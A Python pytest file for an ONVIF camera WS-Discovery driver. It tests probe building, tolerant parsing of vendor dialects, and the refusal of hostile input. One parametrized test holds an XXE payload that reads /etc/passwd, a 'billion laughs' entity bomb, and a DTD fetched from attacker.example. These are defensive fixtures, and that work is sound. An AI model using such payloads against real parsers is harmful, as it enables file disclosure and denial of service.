"""WS-Discovery messages: the Probe we send, and ProbeMatches parsing with hostile input refused."""

from __future__ import annotations

import pytest
from defusedxml import ElementTree as SafeET

from drivers.onvif.discovery import PROBE_ACTION, WSA, WSD, build_probe, parse_probe_matches
from simulators.camera.discovery import Announcement, probe_matches

MID = "urn:uuid:11111111-2222-3333-4444-555555555555"


def test_probe_is_a_valid_soap_probe() -> None:
    root = SafeET.fromstring(build_probe(MID))
    assert root.findtext(f".//{{{WSA}}}Action") == PROBE_ACTION
    assert root.findtext(f".//{{{WSA}}}MessageID") == MID
    assert root.findtext(f".//{{{WSD}}}Types") == "dn:NetworkVideoTransmitter"


def test_probe_matches_parsed() -> None:
    data = probe_matches(MID, Announcement("urn:uuid:cam-1", "http://10.0.0.7:8080/onvif/device_service",
                                           ("onvif://www.onvif.org/name/lane1", "onvif://www.onvif.org/type/video_encoder")))
    [device] = parse_probe_matches(data, MID, "10.0.0.7")
    assert device.endpoint == "urn:uuid:cam-1"
    assert device.xaddrs == ("http://10.0.0.7:8080/onvif/device_service",)
    assert device.scope_value("name") == "lane1"
    assert device.sender == "10.0.0.7"


def test_answer_to_another_probe_is_ignored() -> None:
    data = probe_matches("urn:uuid:other", Announcement("urn:uuid:cam-1", "http://h/onvif/device_service", ()))
    assert parse_probe_matches(data, MID, "10.0.0.7") == []


@pytest.mark.parametrize(
    "payload",
    [
        # classic XXE: an external entity reading a local file
        b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<e xmlns="http://www.w3.org/2003/05/soap-envelope">&x;</e>',
        # billion laughs
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
        # a bare DTD is refused too
        b'<?xml version="1.0"?><!DOCTYPE l SYSTEM "http://attacker.example/x.dtd"><l/>',
    ],
)
def test_hostile_datagrams_are_refused(payload: bytes) -> None:
    with pytest.raises(ValueError, match="refused WS-Discovery datagram"):
        parse_probe_matches(payload, MID, "10.0.0.66")


def test_malformed_datagram_is_an_error_not_a_crash() -> None:
    with pytest.raises(ValueError, match="malformed"):
        parse_probe_matches(b"<not-xml", MID, "10.0.0.66")


# -- dialects seen on third-party cameras (issue 11, point 7) ---------------------------------------

SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"
WSA_2005 = "http://www.w3.org/2005/08/addressing"
WSD_11 = "http://docs.oasis-open.org/ws-dd/ns/discovery/2009/01"


def dialect(*, relates: str | None = MID, action: str | None = "ProbeMatches", soap: str = SOAP11,
            wsa: str = WSA_2005, wsd: str = WSD_11, endpoint: str = "urn:uuid:cam-9",
            xaddrs: str = "http://10.0.0.9/onvif/device_service http://[fe80::1]/onvif/device_service") -> bytes:
    header = ""
    if relates is not None:
        header += f"<a:RelatesTo>{relates}</a:RelatesTo>"
    if action is not None:
        header += f"<a:Action>{WSD}/{action}</a:Action>"
    return (
        f'<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="{soap}" xmlns:a="{wsa}" xmlns:d="{wsd}">'
        f"<SOAP-ENV:Header>{header}</SOAP-ENV:Header><SOAP-ENV:Body><d:ProbeMatches><d:ProbeMatch>"
        f"<a:EndpointReference><a:Address>{endpoint}</a:Address></a:EndpointReference>"
        "<d:Types>tdn:NetworkVideoTransmitter</d:Types>"
        "<d:Scopes>\n  onvif://www.onvif.org/name/IPC\n  onvif://www.onvif.org/hardware/HX-1 </d:Scopes>"
        f"<d:XAddrs>{xaddrs}</d:XAddrs></d:ProbeMatch></d:ProbeMatches></SOAP-ENV:Body></SOAP-ENV:Envelope>"
    ).encode()


@pytest.mark.parametrize("kwargs", [
    {},  # SOAP 1.1, WS-Addressing 2005/08, WS-Discovery 1.1
    {"relates": None},  # no RelatesTo: the answer reached our per-probe socket
    {"relates": "uuid:11111111-2222-3333-4444-555555555555"},  # uuid: instead of urn:uuid:
    {"relates": MID.upper()},
    {"action": None},
])
def test_loosely_formed_probe_matches_are_accepted(kwargs: dict[str, object]) -> None:
    [device] = parse_probe_matches(dialect(**kwargs), MID, "10.0.0.9")  # type: ignore[arg-type]
    assert device.endpoint == "urn:uuid:cam-9"
    assert device.xaddrs == ("http://10.0.0.9/onvif/device_service", "http://[fe80::1]/onvif/device_service")
    assert device.scope_value("name") == "IPC" and device.scope_value("hardware") == "HX-1"


def test_elements_in_no_namespace_are_accepted() -> None:
    data = (b"<Envelope><Header><RelatesTo>" + MID.encode() + b"</RelatesTo></Header><Body><ProbeMatches>"
            b"<ProbeMatch><EndpointReference><Address>urn:uuid:bare</Address></EndpointReference>"
            b"<XAddrs>http://10.0.0.5/onvif/device_service</XAddrs></ProbeMatch></ProbeMatches></Body></Envelope>")
    [device] = parse_probe_matches(data, MID, "10.0.0.5")
    assert device.endpoint == "urn:uuid:bare" and device.types == ()


@pytest.mark.parametrize("kwargs", [
    {"relates": "urn:uuid:99999999-0000-0000-0000-000000000000"},  # someone else's probe
    {"action": "Hello"},  # an announcement, not an answer
    {"action": "Bye"},
])
def test_answers_that_are_unambiguously_not_ours_are_ignored(kwargs: dict[str, object]) -> None:
    assert parse_probe_matches(dialect(**kwargs), MID, "10.0.0.9") == []  # type: ignore[arg-type]


def test_a_match_without_address_is_dropped_with_a_reason(caplog: pytest.LogCaptureFixture) -> None:
    assert parse_probe_matches(dialect(xaddrs=""), MID, "10.0.0.9") == []
    assert "ProbeMatch from 10.0.0.9 dropped: no XAddrs" in caplog.text
    assert parse_probe_matches(dialect(endpoint=""), MID, "10.0.0.9") == []
    assert "no endpoint reference" in caplog.text
